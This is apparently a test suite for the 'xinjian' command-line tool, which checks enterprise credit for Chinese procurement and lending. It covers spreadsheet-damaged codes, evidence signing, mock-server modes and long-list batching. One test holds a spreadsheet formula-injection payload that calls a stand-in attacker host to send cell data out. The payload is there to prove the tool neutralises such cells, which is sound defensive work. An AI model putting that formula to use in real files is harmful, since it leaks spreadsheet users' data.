/**
 * The `xinjian` command end to end: the real CLI in a child process, against the embedded demo
 * data and against a mock server this test starts, with the committed seed data and samples.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { demoJwks, startMockServer } from '@xinjian/mock-server';
import { computeUsccCheckChar, ENTERPRISE_RULE_SETS } from '@xinjian/sdk';
import { type EvidenceFile, verifyEvidence } from '@xinjian/sdk/evidence';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DEMO_API_KEY,
  DEMO_CUTOFF,
  enterpriseByTag,
  enterprisesByTag,
  individualsByTag,
  REVOKED_API_KEY,
  SEED_AS_OF,
  seeds,
} from '../../seeds/index.ts';
import { parseCsv } from './csv.ts';
import { EXIT } from './exit-codes.ts';
import { runCli } from './run.ts';

const verified = async (file: unknown): Promise<boolean> => (await verifyEvidence(file, await demoJwks())).ok;

// The bin itself, as `npx xinjian` runs it.
const MAIN = resolve(import.meta.dirname, '../bin/xinjian.js');
const SAMPLES = resolve(import.meta.dirname, '../../seeds/samples');
// Bidder lists as Excel saves them (GBK "CSV" and "CSV UTF-8"), with codes it damaged.
const FIXTURES = resolve(import.meta.dirname, '../fixtures');

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

interface RunOptions {
  env?: Record<string, string>;
  cwd?: string;
  /** Called with stderr so far on every chunk, and with the child, e.g. to interrupt it. */
  onStderr?: (stderr: string, child: ChildProcess) => void;
}

function cli(args: string[], options: RunOptions = {}): Promise<Run> {
  const env: Record<string, string> = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (v !== undefined && !k.startsWith('XINJIAN_')) env[k] = v;
  }
  Object.assign(env, options.env ?? {});
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [MAIN, ...args], { env, cwd: options.cwd ?? process.cwd() });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (c: string) => {
      stdout += c;
    });
    child.stderr.setEncoding('utf8').on('data', (c: string) => {
      stderr += c;
      options.onStderr?.(stderr, child);
    });
    child.on('error', fail);
    child.on('close', (code) => done({ code, stdout, stderr }));
  });
}

const uscc = (tag: string): string => enterpriseByTag(tag).subject.uscc;
const nameOf = (tag: string): string => enterpriseByTag(tag).subject.name;

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'xinjian-cli-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Result rows keyed by the USCC column (or the name when there is none). */
async function readResult(
  path: string,
): Promise<{ bom: boolean; header: string[]; body: string[][]; rows: Map<string, string[]> }> {
  const bytes = await readFile(path);
  const bom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
  // A code kept as text for a spreadsheet is written ="…"; read it back as the code.
  const [header = [], ...body] = parseCsv(bytes.toString('utf8')).map((r) =>
    r.map((c) => (/^="[0-9A-Za-z-]+"$/.test(c) ? c.slice(2, -1) : c)),
  );
  return { bom, header, body, rows: new Map(body.map((r) => [r[1] || (r[0] ?? ''), r])) };
}

describe('xinjian check with the embedded demo data', { timeout: 60_000 }, () => {
  it('prints grades, tax credit and verdicts, and says it runs on demo data', async () => {
    const run = await cli(['check', uscc('edge:clean'), uscc('edge:dishonest-active')]);
    expect(run.stderr).toContain('使用内置演示数据 / using embedded demo data');
    expect(run.stdout).toContain(`截止时点 ${DEMO_CUTOFF} · 数据基准日 ${SEED_AS_OF}`);
    const lines = run.stdout.split('\n');
    const clean = lines.find((l) => l.includes(uscc('edge:clean')));
    const dishonest = lines.find((l) => l.includes(uscc('edge:dishonest-active')));
    expect(clean).toContain(nameOf('edge:clean'));
    expect(clean).toContain('✔ 通过');
    expect(clean).toMatch(/[ABMCD]（\d{4}年度）/);
    expect(dishonest).toContain('✖ 不通过');
    expect(dishonest).toContain('失信被执行人');
    // The court's rules are cited by a name, not a 文号: said so.
    expect(run.stdout).toContain('最高人民法院失信被执行人名单规定（名称，非文号）');
    expect(run.stdout).toContain('共 2 个：✔ 通过 1，✖ 不通过 1');
    expect(run.code).toBe(EXIT.FAIL);
  });

  it('shows an issuer-qualified grade with its scale', async () => {
    const seed = enterpriseByTag('edge:pboc-AA+');
    const grade = seed.grades.find((g) => g.scale === 'pboc_long_term');
    const run = await cli(['check', seed.subject.uscc, '--lang', 'en']);
    expect(grade?.value).toBe('AA+');
    expect(run.stdout).toContain(`AA+ PBOC long-term · ${grade?.issuer.name.en}`);
  });

  it('prints JSON with the rating summary and the evaluation', async () => {
    const run = await cli(['check', uscc('edge:clean'), uscc('edge:source-unavailable'), '--json']);
    const out = JSON.parse(run.stdout) as Array<{
      outcome: string;
      subjects: Array<{ summary: { subject: { uscc: string } } | null }>;
      evaluation: { verdict: string; ruleSet: { id: string }; checked: unknown[] } | null;
    }>;
    expect(out.map((r) => r.outcome)).toEqual(['pass', 'incomplete']);
    expect(out[0]?.subjects[0]?.summary?.subject.uscc).toBe(uscc('edge:clean'));
    expect(out[0]?.evaluation?.ruleSet.id).toBe('cn-gp-credit-check');
    expect(out[0]?.evaluation?.checked.length).toBeGreaterThan(0);
    expect(out[1]?.evaluation?.verdict).toBe('incomplete');
    expect(run.code).toBe(EXIT.ATTENTION);
  });

  it('uses a confident name match and says so; an ambiguous name is not guessed', async () => {
    const twins = enterprisesByTag('same-name:2');
    expect(twins).toHaveLength(2);
    const run = await cli(['check', nameOf('edge:clean'), twins[0]?.subject.name ?? '']);
    expect(run.stdout).toMatch(new RegExp(`按名称"${nameOf('edge:clean')}"匹配，置信度 \\d+%`));
    expect(run.stdout).toContain(uscc('edge:clean'));
    expect(run.stdout).toContain('≈ 需人工确认');
    for (const t of twins) {
      expect(run.stdout).toContain(`${t.subject.name}（${t.subject.region.name} · ${t.subject.uscc}）`);
    }
    expect(run.code).toBe(EXIT.ATTENTION);
  });

  it('rejects a mistyped code with the expected check character and exit 65', async () => {
    const run = await cli(['check', '91110000600037341N']);
    expect(run.stdout).toContain('91110000600037341N: 校验位不符：应为 L，实为 N');
    expect(run.stdout).toContain('⊘ 代码无效');
    expect(run.code).toBe(EXIT.DATA);
    const en = await cli(['check', '91110000600037341N', '--lang', 'en']);
    expect(en.stdout).toContain('91110000600037341N: check character mismatch: expected L, got N');
  });

  it('fails a consortium when one member is a dishonest debtor', async () => {
    const run = await cli(['check', `${uscc('edge:clean')};${uscc('edge:dishonest-active')}`, '--json']);
    const [row] = JSON.parse(run.stdout) as Array<{
      outcome: string;
      evaluation: { findings: Array<{ code: string }> };
    }>;
    expect(row?.outcome).toBe('fail');
    expect(row?.evaluation.findings.map((f) => f.code)).toContain('consortium.member_failed');
    expect(run.code).toBe(EXIT.FAIL);
  });

  it.each([['excel-bidders-gbk.csv'], ['excel-bidders-utf8-bom.csv']])(
    'recognises codes a spreadsheet damaged in %s, falls back to the name, and writes codes as text',
    async (file) => {
      const input = join(dir, file);
      await copyFile(join(FIXTURES, file), input);
      const run = await cli(['check', '--csv', input, '-q']);
      const raw = new TextDecoder().decode(await readFile(join(dir, file.replace(/\.csv$/, '.result.csv'))));
      const [header = [], ...body] = parseCsv(raw);
      expect(header.slice(0, 4)).toEqual(['序号', '投标人名称', '统一社会信用代码', '联系电话']);
      const byNo = new Map(body.map((r) => [r[0], r]));
      const at = (no: string, column: string) => byNo.get(no)?.[header.indexOf(column)] ?? '';
      const seedCode = (name: string) => seeds.enterprises.find((e) => e.subject.name === name)?.subject.uscc;

      // Scientific notation: said so, and looked up by the row's name instead of as a name itself.
      expect(at('2', '原因')).toContain('代码"9.11501E+17"已被电子表格改成科学计数法');
      expect(at('2', '原因')).toContain('已改按名称"呼和浩特沐卓机械设备有限公司"查询');
      expect(at('2', '匹配代码')).toBe(`="${seedCode('呼和浩特沐卓机械设备有限公司')}"`);
      expect(Number(at('2', '匹配置信度'))).toBeGreaterThanOrEqual(0.8);
      expect(at('2', '结论')).toBe('需复核');

      // A zeroed tail is not reported as a wrong check character.
      expect(at('3', '原因')).toContain('末尾几位被电子表格改成了 0');
      expect(at('3', '原因')).not.toContain('校验位不符');
      expect(at('3', '匹配代码')).toBe(`="${seedCode('篁辰商贸有限公司')}"`);
      expect(at('3', '结论')).toBe('不通过');
      expect(at('3', '统一社会信用代码')).toBe('="914401047195690000"');

      // Intact codes: one with letters as it is; an all-digit one, in the input columns too, as text.
      expect(at('1', '匹配代码')).toBe('91110000561976492Q');
      expect(at('1', '匹配置信度')).toBe('1');
      expect(at('1', '截止时点')).toBe(DEMO_CUTOFF);
      expect(at('1', '规则集')).toContain('cn-gp-credit-check');
      expect(at('5', '统一社会信用代码')).toBe('="911501055233021044"');
      expect(at('5', '结论')).toBe('通过');
      expect(raw).toContain(',"=""911501055233021044""",');

      // No name to fall back on: the row is invalid, with what to do.
      expect(at('6', '结论')).toBe('代码无效');
      expect(at('6', '原因')).toContain('请在表格中把该列设为"文本"后重新录入');
      expect(run.code).toBe(EXIT.DATA);

      const en = await cli(
        ['check', '--csv', file, '-q', '--lang', 'en', '--out', 'en.csv', '--evidence', 'en.json'],
        {
          cwd: dir,
        },
      );
      const enRows = parseCsv(new TextDecoder().decode(await readFile(join(dir, 'en.csv'))));
      expect(enRows.find((r) => r[0] === '2')?.join(' ')).toContain(
        'was turned into scientific notation by a spreadsheet',
      );
      expect(en.code).toBe(EXIT.DATA);
    },
  );

  it.each([
    ['bidders.csv', 'utf-8'],
    ['bidders-gbk.csv', 'gbk'],
  ])('checks the sample list %s and writes the result CSV and sealed evidence', async (file, encoding) => {
    const input = join(dir, file);
    await copyFile(join(SAMPLES, file), input);
    const inputRows = parseCsv(new TextDecoder().decode(await readFile(join(SAMPLES, 'bidders.csv'))));
    const run = await cli(['check', '--csv', input]);
    const base = file.replace(/\.csv$/, '');
    expect(run.stderr).toContain(`已核查 ${inputRows.length - 1}/${inputRows.length - 1}`);
    expect(run.stderr).toContain(`结果表：${join(dir, `${base}.result.csv`)}`);

    const result = await readResult(join(dir, `${base}.result.csv`));
    expect(result.bom).toBe(true);
    expect(result.header).toEqual([
      '投标人名称',
      '统一社会信用代码',
      '评级',
      '纳税信用',
      '结论',
      '原因',
      '查询时间',
      '匹配代码',
      '匹配置信度',
      '截止时点',
      '规则集',
    ]);
    expect(result.body).toHaveLength(inputRows.length - 1);
    expect(result.body.map((r) => r.slice(0, 2))).toEqual(inputRows.slice(1));
    const verdict = (tag: string): string | undefined => result.rows.get(uscc(tag))?.[4];
    expect(verdict('edge:clean')).toBe('通过');
    expect(verdict('edge:dishonest-active')).toBe('不通过');
    expect(verdict('edge:gp-ban-active')).toBe('不通过');
    expect(verdict('edge:gp-ban-ended')).toBe('通过');
    expect(verdict('edge:major-tax')).toBe('不通过');
    expect(verdict('edge:fine-2000000')).toBe('不通过');
    expect(verdict('edge:fine-1990000')).toBe('通过');
    expect(verdict('edge:abnormal-operation')).toBe('需复核');
    expect(result.rows.get(uscc('edge:dishonest-active'))?.[5]).toContain('失信被执行人');

    // The sample's typo row: the real code with a wrong check character.
    const typo = [...result.rows.values()].find((r) => r[4] === '代码无效');
    const typed = typo?.[1] ?? '';
    expect(typo?.[5]).toContain(`${typed}: 校验位不符：应为 ${computeUsccCheckChar(typed.slice(0, 17))}`);
    // The name-only row: two companies share it.
    const twin = enterprisesByTag('same-name:2')[0]?.subject.name ?? '';
    expect(result.rows.get(twin)?.[4]).toBe('需人工确认');
    expect(run.code).toBe(EXIT.DATA);

    const evidence = JSON.parse(await readFile(join(dir, `${base}.evidence.json`), 'utf8')) as EvidenceFile;
    expect(evidence.record.schema).toBe('xinjian.evidence/2');
    expect(evidence.digest.value).toMatch(/^[0-9a-f]{64}$/);
    expect(await verified(evidence)).toBe(true);
    const dropped = structuredClone(evidence);
    dropped.record.subjects = dropped.record.subjects.slice(1);
    expect(await verified(dropped)).toBe(false);
    expect(evidence.record.origin.input).toMatchObject({
      encoding,
      rows: inputRows.length - 1,
      sha256: createHash('sha256')
        .update(await readFile(join(SAMPLES, file)))
        .digest('hex'),
    });
    const dishonest = evidence.record.subjects.find((s) => s.code === uscc('edge:dishonest-active'));
    expect(dishonest?.verdict).toBe('fail');
    expect(dishonest?.signed[0]?.kid).toBe((await demoJwks()).keys[0]?.kid);
    expect(dishonest?.queriedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+08:00$/);
    expect(dishonest?.sources.some((c) => c.channel === 'creditchina' && c.fetchedAt !== null)).toBe(true);
    expect(dishonest?.findings.flatMap((f) => f.citations)).toContainEqual(
      expect.stringContaining('财库〔2016〕125号'),
    );
  });

  it('honours --out, --evidence, English headers and a members column; flags a name that does not match', async () => {
    const input = join(dir, 'consortium.csv');
    const clean = `${nameOf('edge:clean')},${uscc('edge:clean')},`;
    await writeFile(
      input,
      `\ufeffSupplier,USCC,联合体成员\r\n"Lead, Inc.",${uscc('edge:clean')},${uscc('edge:gp-ban-active')}\r\n${clean}\r\nSolo,${uscc('edge:clean')},\r\n`,
    );
    const run = await cli(
      ['check', '--csv', 'consortium.csv', '--out', 'r.csv', '--evidence', 'e.json', '--lang', 'en', '-q'],
      {
        cwd: dir,
      },
    );
    expect(run.stderr).not.toContain('checked 3/3');
    const result = await readResult(join(dir, 'r.csv'));
    expect(result.header).toEqual([
      'Supplier',
      'USCC',
      '联合体成员',
      'Grades',
      'Tax credit',
      'Verdict',
      'Reasons',
      'Queried at',
      'Matched code',
      'Match confidence',
      'Cut-off',
      'Rule set',
    ]);
    const rows = result.body;
    expect(rows.map((r) => [r[0], r[5]])).toEqual([
      ['Lead, Inc.', 'fail'],
      [nameOf('edge:clean'), 'pass'],
      ['Solo', 'review'],
    ]);
    expect(rows[0]?.[6]).toContain('Consortium member');
    expect(rows[2]?.[6]).toContain(
      `the listed name "Solo" differs from the registered name "${nameOf('edge:clean')}"`,
    );
    const consortium = JSON.parse(await readFile(join(dir, 'e.json'), 'utf8')) as EvidenceFile;
    expect(await verified(consortium)).toBe(true);
    expect(consortium.record.groups.map((g) => [g.id, g.verdict])).toEqual([['r1', 'fail']]);
    expect(run.code).toBe(EXIT.FAIL);
  });

  it('writes cells a spreadsheet would run as formulas as text, the input cells included', async () => {
    const input = join(dir, 'formula.csv');
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"点击")';
    await writeFile(
      input,
      `投标人名称,统一社会信用代码,备注\r\n"${hyperlink.replaceAll('"', '""')}",${uscc('edge:clean')},@SUM(A1)\r\n`,
    );
    await cli(['check', '--csv', input, '-q']);
    const text = new TextDecoder().decode(await readFile(join(dir, 'formula.result.csv')));
    const [, row] = parseCsv(text);
    expect(row?.[0]).toBe(`'${hyperlink}`);
    expect(row?.[2]).toBe("'@SUM(A1)");
    expect(row?.[1]).toBe(uscc('edge:clean'));
  });

  it('reports a missing file (66), an empty file and missing columns (65), and never overwrites the list', async () => {
    const missing = await cli(['check', '--csv', join(dir, 'nope.csv')]);
    expect(missing.stderr).toContain(`找不到文件：${join(dir, 'nope.csv')}`);
    expect(missing.code).toBe(EXIT.NO_INPUT);

    await writeFile(join(dir, 'empty.csv'), '\ufeff\r\n');
    const empty = await cli(['check', '--csv', join(dir, 'empty.csv')]);
    expect(empty.stderr).toContain('文件为空');
    expect(empty.code).toBe(EXIT.DATA);

    await writeFile(join(dir, 'cols.csv'), '序号,金额\r\n1,100\r\n');
    const cols = await cli(['check', '--csv', join(dir, 'cols.csv'), '--lang', 'en']);
    expect(cols.stderr).toContain('headers found: 序号, 金额');
    expect(cols.stderr).toContain('accepted name headers: 投标人名称, 投标人, 供应商名称, 供应商, 单位名称');
    expect(cols.stderr).toContain('accepted code headers: 统一社会信用代码');
    expect(cols.code).toBe(EXIT.DATA);

    const same = join(dir, 'same.csv');
    await copyFile(join(SAMPLES, 'bidders.csv'), same);
    const overwrite = await cli(['check', '--csv', same, '--out', same]);
    expect(overwrite.stderr).toContain('结果表、证据文件和名单必须是三个不同的文件');
    expect(overwrite.code).toBe(EXIT.USAGE);
    expect(await readFile(same)).toEqual(await readFile(join(SAMPLES, 'bidders.csv')));
  });

  it('documents the exit codes in --help and rejects bad usage with 64', async () => {
    const [zh, en, mode, unknown, date, bare] = await Promise.all([
      cli(['check', '--help']),
      cli(['--help', '--lang', 'en']),
      cli(['check', 'x', '--mode', 'auction']),
      cli(['check', 'x', '--colour']),
      cli(['check', 'x', '--cutoff', '2026-02-30']),
      cli([]),
    ]);
    expect(zh.stdout).toContain('退出码');
    expect(zh.stdout).toContain('65  输入数据有误');
    expect(zh.code).toBe(EXIT.OK);
    expect(en.stdout).toContain('Exit codes:');
    expect(en.stdout).toContain('xinjian check --csv <bidders.csv>');
    expect(mode.stderr).toContain(
      '--mode 只能是 procurement（政府采购）、tendering（招标投标）、credit（信贷）',
    );
    expect(mode.code).toBe(EXIT.USAGE);
    expect(unknown.stderr).toContain("Unknown option '--colour'");
    expect(unknown.code).toBe(EXIT.USAGE);
    expect(date.stderr).toContain('--cutoff 应为日期 YYYY-MM-DD，收到 "2026-02-30"');
    expect(date.code).toBe(EXIT.USAGE);
    expect(bare.stderr).toContain('xinjian check <代码或名称>');
    expect(bare.stdout).toBe('');
    expect(bare.code).toBe(EXIT.USAGE);
  });

  it('lists products and the application catalog', async () => {
    const products = await cli(['products']);
    for (const p of seeds.products) expect(products.stdout).toContain(p.id);
    expect(products.stdout).toContain(`共 ${seeds.products.length} 个产品`);
    expect(products.code).toBe(EXIT.OK);
    const domains = await cli(['domains', '--lang', 'en']);
    const gp = seeds.domains.find((d) => d.id === 'government_procurement');
    expect(domains.stdout).toContain(gp?.name.en);
    for (const b of gp?.policyBasis ?? []) expect(domains.stdout).toContain(b.documentNo);
    expect(domains.stdout).toContain(`${seeds.domains.length} domains`);
    const json = await cli(['domains', '--json']);
    expect((JSON.parse(json.stdout) as unknown[]).length).toBe(seeds.domains.length);
  });
});

describe('xinjian check against a configured API', { timeout: 60_000 }, () => {
  let server: Awaited<ReturnType<typeof startMockServer>>;
  let env: Record<string, string>;
  beforeAll(async () => {
    server = await startMockServer({ port: 0, reportDelayMs: 0 });
    env = { XINJIAN_API_URL: server.url, XINJIAN_API_KEY: DEMO_API_KEY };
  });
  afterAll(async () => {
    await server.close();
  });

  it('uses XINJIAN_API_URL and XINJIAN_API_KEY, with today as the default cutoff', async () => {
    const run = await cli(['check', uscc('edge:clean'), '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      env,
    });
    expect(run.stderr).not.toContain('演示数据');
    expect(run.stdout).toContain('✔ 通过');
    expect(run.code).toBe(EXIT.OK);
    const journal = (await (await fetch(`${server.url}/__mock/journal`)).json()) as {
      data: Array<{ path: string }>;
    };
    expect(journal.data.some((e) => e.path === '/v1/ratings/batch')).toBe(true);
  });

  it('applies the tendering rules with --mode tendering', async () => {
    const run = await cli(
      ['check', uscc('edge:dishonest-active'), '--mode', 'tendering', '--cutoff', DEMO_CUTOFF, '--json'],
      {
        env,
      },
    );
    const [row] = JSON.parse(run.stdout) as Array<{
      outcome: string;
      evaluation: { ruleSet: { id: string } };
    }>;
    expect(row?.evaluation.ruleSet.id).toBe('cn-tendering-dishonest-debtor');
    expect(row?.outcome).toBe('fail');
  });

  it('checks borrowers with their guarantors with --mode credit (the sample credit.csv)', async () => {
    const path = join(dir, 'credit.csv');
    await copyFile(join(SAMPLES, 'credit.csv'), path);
    const run = await cli(
      ['check', '--mode', 'credit', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF],
      {
        env,
      },
    );
    expect(run.stdout).toContain('规则：信贷');
    expect(run.stdout).toContain('借款企业及担保人（2 家担保人）');
    expect(run.code).toBe(EXIT.FAIL);
    const result = await readResult(join(dir, 'credit.result.csv'));
    const verdict = result.header.indexOf('结论');
    const ruleSet = result.header.indexOf('规则集');
    const of = (tag: string) => result.rows.get(uscc(tag))?.[verdict];
    const borrower = enterprisesByTag('credit-case:cc-1').find((e) => e.tags.includes('role:borrower'));
    expect(result.rows.get(borrower?.subject.uscc ?? '')?.[verdict]).toBe('不通过');
    expect([
      of('edge:sme-A-'),
      of('edge:dishonest-active'),
      of('edge:sme-BB'),
      of('edge:rating-unfiled'),
    ]).toEqual(['通过', '不通过', '需复核', '需复核']);
    expect(result.rows.get(uscc('edge:clean'))?.[ruleSet]).toContain('cn-credit-lending');
    const evidence = JSON.parse(await readFile(join(dir, 'credit.evidence.json'), 'utf8')) as EvidenceFile;
    expect(evidence.record.subjects.slice(0, 3).map((s) => [s.key, s.role])).toEqual([
      ['r1.1', 'borrower'],
      ['r1.2', 'guarantor'],
      ['r1.3', 'guarantor'],
    ]);
    // The application's verdict is the combined one, and a verifier derives it again.
    expect(evidence.record.groups.find((g) => g.id === 'r1')?.verdict).toBe('fail');
    expect(await verified(evidence)).toBe(true);
  });

  it('with --mode credit treats an ID number given as a code (the legal representative) as invalid, and never sends it', async () => {
    const rep = individualsByTag('credit-case:cc-1')[0];
    const borrower = enterprisesByTag('credit-case:cc-1').find((e) => e.tags.includes('role:borrower'));
    if (!rep || !borrower) throw new Error('the credit case lacks its parties');
    const path = join(dir, 'credit-rep.csv');
    await writeFile(
      path,
      `借款企业名称,统一社会信用代码,担保人\n${borrower.subject.name},${borrower.subject.uscc},${rep.idNumber};${uscc('edge:clean')}\n`,
    );
    await fetch(`${server.url}/__mock/journal`, { method: 'DELETE' });
    const run = await cli(
      ['check', '--mode', 'credit', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF],
      { env },
    );
    expect(run.stdout + run.stderr).not.toContain(rep.idNumber);
    const journal = (await (await fetch(`${server.url}/__mock/journal`)).json()) as { data: unknown[] };
    expect(journal.data.length).toBeGreaterThan(0);
    expect(JSON.stringify(journal.data)).not.toContain(rep.idNumber.slice(0, 14));
    const evidence = JSON.parse(
      await readFile(join(dir, 'credit-rep.evidence.json'), 'utf8'),
    ) as EvidenceFile;
    const person = evidence.record.subjects.find((s) => s.role === 'guarantor' && s.state === 'invalid');
    expect(person?.reason).toContain('居民身份证号码');
    expect(JSON.stringify(evidence)).not.toContain(rep.idNumber);
    expect(await readFile(join(dir, 'credit-rep.result.csv'), 'utf8')).not.toContain(rep.idNumber);
  });

  it('takes --mode values from the SDK rule sets and names them on a wrong one', async () => {
    const run = await cli(['check', uscc('edge:clean'), '--mode', 'lending'], { env });
    expect(run.code).toBe(EXIT.USAGE);
    expect(run.stderr).toContain('procurement（政府采购）、tendering（招标投标）、credit（信贷）');
    const help = await cli(['check', '--help'], { env });
    expect(help.stdout).toContain(`--mode ${ENTERPRISE_RULE_SETS.join('|')}`);
    expect(ENTERPRISE_RULE_SETS).toEqual(['procurement', 'tendering', 'credit']);
  });

  it('stops with 77 when the key is rejected', async () => {
    const run = await cli(['check', uscc('edge:clean')], {
      env: { ...env, XINJIAN_API_KEY: REVOKED_API_KEY },
    });
    expect(run.stderr).toContain('HTTP 401');
    expect(run.stderr).toContain('unauthorized');
    expect(run.stdout).not.toContain('通过');
    expect(run.code).toBe(EXIT.AUTH);
  });

  it('shows 暂不可用 with status and request id when the server fails, never a pass', async () => {
    const broken = enterpriseByTag('magic:500').subject.uscc;
    const run = await cli(['check', broken, '--lang', 'en'], { env });
    const line = run.stdout.split('\n').find((l) => l.includes(broken));
    expect(line).toContain('! unavailable');
    expect(line).toMatch(/HTTP 500 · internal · req_\w+/);
    expect(run.code).toBe(EXIT.UNAVAILABLE);
  });

  it('refuses half a configuration with 78', async () => {
    const run = await cli(['check', uscc('edge:clean')], { env: { XINJIAN_API_URL: server.url } });
    expect(run.stderr).toContain('XINJIAN_API_URL is set but XINJIAN_API_KEY is not');
    expect(run.code).toBe(EXIT.CONFIG);
  });

  it('refuses a plain http:// API off this machine with 78, and reads XINJIAN_BASE_URL', async () => {
    const remote = await cli(['check', uscc('edge:clean')], {
      env: { XINJIAN_BASE_URL: 'http://api.example.cn', XINJIAN_API_KEY: DEMO_API_KEY },
    });
    expect(remote.stderr).toContain('XINJIAN_BASE_URL: refusing plain http:// to api.example.cn');
    expect(remote.stderr).not.toContain(DEMO_API_KEY);
    expect(remote.code).toBe(EXIT.CONFIG);
    const local = await cli(['check', uscc('edge:clean'), '--json'], {
      env: { XINJIAN_BASE_URL: server.url, XINJIAN_API_KEY: DEMO_API_KEY },
    });
    expect(local.code).toBe(EXIT.OK);
  });
});

describe('xinjian check when the API is down', { timeout: 60_000 }, () => {
  let url: string;
  beforeAll(async () => {
    // A port that was free a moment ago and now has nobody listening.
    const probe = createServer();
    await new Promise<void>((ok) => probe.listen(0, '127.0.0.1', ok));
    const address = probe.address();
    await new Promise<void>((ok) => probe.close(() => ok()));
    url = `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 1}`;
  });

  it('marks every row 暂不可用 in the table and the result CSV, with exit 69', async () => {
    const env = { XINJIAN_API_URL: url, XINJIAN_API_KEY: DEMO_API_KEY };
    const run = await cli(['check', uscc('edge:clean')], { env });
    expect(run.stdout).toContain('! 暂不可用');
    expect(run.stdout).toContain('无法连接信用服务');
    expect(run.stdout).not.toContain('✔ 通过');
    expect(run.code).toBe(EXIT.UNAVAILABLE);

    const input = join(dir, 'down.csv');
    await copyFile(join(SAMPLES, 'bidders.csv'), input);
    const list = await cli(['check', '--csv', input, '-q'], { env });
    const result = await readResult(join(dir, 'down.result.csv'));
    const verdicts = new Set(result.body.map((r) => r[4]));
    expect(verdicts).toEqual(new Set(['暂不可用', '代码无效']));
    expect(list.code).toBe(EXIT.UNAVAILABLE);
  });
});

describe('xinjian check on long lists', { timeout: 120_000 }, () => {
  let server: Awaited<ReturnType<typeof startMockServer>>;
  let env: Record<string, string>;
  const admin = (path: string, init?: RequestInit) => fetch(`${server.url}${path}`, init);
  const batches = async () => {
    const body = (await (await admin('/__mock/journal')).json()) as {
      data: { method: string; path: string }[];
    };
    return body.data.filter((e) => e.method === 'POST' && e.path === '/v1/ratings/batch');
  };
  const setLatency = (latencyMs: number) =>
    admin('/__mock/config', {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ latencyMs }),
    });

  /** A list of `n` distinct valid codes: the seeded plain enterprises, then unknown well-formed ones. */
  async function list(name: string, n: number): Promise<string> {
    const codes = seeds.enterprises
      .filter((e) => !e.tags.some((t) => t.startsWith('magic:')))
      .map((e) => e.subject.uscc)
      .slice(0, n);
    for (let i = 0; codes.length < n; i++) {
      const first17 = `9133010879${String(i).padStart(7, '0')}`;
      codes.push(first17 + computeUsccCheckChar(first17));
    }
    const path = join(dir, name);
    await writeFile(path, `统一社会信用代码\n${codes.join('\n')}\n`);
    return path;
  }

  beforeAll(async () => {
    server = await startMockServer({ port: 0, reportDelayMs: 0 });
    env = { XINJIAN_API_URL: server.url, XINJIAN_API_KEY: DEMO_API_KEY };
  });
  afterAll(async () => {
    await server.close();
  });

  it('2,000 rows: 20 batch requests, a progress line per thousand rows, a summary instead of every row', async () => {
    const path = await list('long.csv', 2000);
    await admin('/__mock/journal', { method: 'DELETE' });
    const run = await cli(['check', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], { env });
    expect(run.stderr).not.toContain('内部错误');
    const sent = await batches();
    expect(sent).toHaveLength(20);
    // stderr is a pipe here, not a terminal: whole lines, one per thousand rows.
    const lines = run.stderr.split('\n').filter((l) => l.startsWith('已核查'));
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^已核查 1000\/2000（50%），剩余约 \d+ (秒|分钟)$/);
    expect(lines[1]).toBe('已核查 2000/2000（100%）');
    // Counts by verdict, then only the rows that did not pass.
    expect(run.stdout).toMatch(/合计\s*│\s*2000/);
    expect(run.stdout).toContain('用 --all 显示每一行');
    const notFound = run.stdout.match(/— 未找到/g)?.length ?? 0;
    expect(notFound).toBeGreaterThan(0);
    expect(run.stdout).not.toContain('✔ 通过 │');
    const result = await readResult(join(dir, 'long.result.csv'));
    expect(result.body).toHaveLength(2000);
    // Exactly the rows that did not pass are printed, one line each (piped output does not wrap).
    const verdict = result.header.indexOf('结论');
    const notPassed = result.body.filter((r) => r[verdict] !== '通过').length;
    const printed = run.stdout.split('\n').filter((l) => /│ [0-9A-Z]{18} +│/.test(l)).length;
    expect(notPassed).toBeLessThan(2000);
    expect(printed).toBe(notPassed);
  });

  it('on a terminal, redraws one progress line in place with the time left; at most 4 batches in flight', async () => {
    const path = await list('tty.csv', 2000);
    await admin('/__mock/journal', { method: 'DELETE' });
    await setLatency(150);
    let stderr = '';
    const code = await runCli(['check', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      stdout: { write: () => true },
      stderr: {
        write: (c: string) => {
          stderr += c;
          return true;
        },
        isTTY: true,
      },
      env,
      cwd: dir,
    }).finally(() => setLatency(0));
    expect(code).not.toBe(EXIT.SOFTWARE);
    const drawn = stderr.split('\r\x1b[K').filter((l) => l.startsWith('已核查'));
    // Drawn over the same line as answers arrive: no line breaks between the redraws.
    expect(drawn.length).toBeGreaterThan(1);
    expect(drawn.slice(0, -1).every((l) => /^已核查 \d+\/2000（\d+%），剩余约 \d+ (秒|分钟)$/.test(l))).toBe(
      true,
    );
    expect(drawn.at(-1)).toMatch(/^已核查 2000\/2000（100%）\n/);
    // The SDK's bounded concurrency, as the server saw it: never more than 4 batches at once.
    const sent = (await batches()) as unknown as Array<{ time: number; durationMs: number }>;
    expect(sent).toHaveLength(20);
    const inFlight = sent.map(
      (a) => sent.filter((b) => b.time <= a.time && a.time < b.time + b.durationMs).length,
    );
    expect(Math.max(...inFlight)).toBeLessThanOrEqual(4);
